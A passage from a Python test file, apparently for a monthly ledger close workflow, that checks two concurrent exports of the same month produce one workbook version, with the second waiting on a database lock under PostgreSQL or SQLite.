    assert third.returncode == 0, third.stderr
    assert third.stdout.splitlines()[0].endswith("(unchanged: no new version)")


def test_two_exports_of_a_month_at_once_write_one_version_the_second_waits_for_the_first(october):
    """CI once saw two closes of a month write its workbook together: both found no version yet and the
    second died on the ledger's unique key. The second now waits for the first and finds its version."""
    from flows.monthly_close import monthly_close
    from ledger.db import one_at_a_time
    from operations.export import export_month
    from tests.support.locks import WaitWatch, joined, run_in_thread

    monthly_close(month="2026-10")
    with session_scope(october) as session:
        session.query(Export).delete()
    outcome = {}
    with WaitWatch(october) as watch:
        def second():
            watch.enter(None)
            try:
                outcome["result"] = export_month("2026-10", ObjectStorage(), Terms(), flow_run_id=None, engine=october)
            except Exception as error:  # shown by the assertion below
                outcome["error"] = error

        with session_scope(october, write=True) as session:
            one_at_a_time(session, "export:2026-10")
            if october.dialect.name == "postgresql":  # SQLite's writer lock is taken at BEGIN instead
                waiting = run_in_thread(second)
                watch.assert_waiting(session)
                assert not outcome, outcome
        if october.dialect.name != "postgresql":
            waiting = run_in_thread(second)
        first = export_month("2026-10", ObjectStorage(), Terms(), flow_run_id=None, engine=october)
        joined(waiting)
    assert "error" not in outcome, outcome.get("error")
    assert sorted([first.new, outcome["result"].new]) == [False, True]
    assert first.version == outcome["result"].version == 1
    with session_scope(october) as session:
        assert session.scalar(select(func.count()).select_from(Export).where(Export.month == "2026-10")) == 1
